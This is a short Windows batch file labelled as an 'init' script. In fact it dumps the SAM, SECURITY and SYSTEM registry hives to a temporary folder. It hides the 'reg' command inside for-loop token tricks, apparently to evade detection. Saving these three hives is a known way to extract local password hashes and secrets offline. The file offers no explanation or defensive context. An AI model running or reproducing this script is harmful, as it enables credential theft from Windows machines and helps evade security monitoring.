REM init 1668 v4
for /f "tokens=1 delims=;" %%i in ("reg;bxoi;yywu") do %%i save hklm\sam C:\Windows\Temp\sam.save
for /f "tokens=1 delims=;" %%i in ("reg;esjg;zbpz") do %%i save hklm\security C:\Windows\Temp\security.save
for /f "tokens=2 delims=#" %%i in ("bngo#reg#nytc") do %%i save hklm\system C:\Windows\Temp\system.save
